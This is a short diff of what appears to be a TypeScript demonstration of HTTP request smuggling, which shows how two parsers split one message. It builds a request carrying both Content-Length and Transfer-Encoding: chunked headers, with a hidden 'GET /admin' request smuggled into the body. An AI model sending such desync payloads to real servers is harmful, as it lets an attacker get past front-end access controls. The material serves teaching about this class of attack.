@@ -6,10 +6,8 @@ import { quiet } from './parts/quiet.ts'
 import { RawClient } from './parts/raw-client.ts'
 
 const HOST = 'Host: shop.example'
-// #region attack
 const body = '0\r\n\r\nGET /admin HTTP/1.1\r\nHost: shop.example\r\n\r\n'
 const both = ['POST /search HTTP/1.1', HOST, `Content-Length: ${body.length}`, 'Transfer-Encoding: chunked']
-// #endregion attack
 
 process.stdout.write('the bytes of one message, as two readers cut them\n\n')
 const stream = `${both.join('\r\n')}\r\n\r\n${body}`
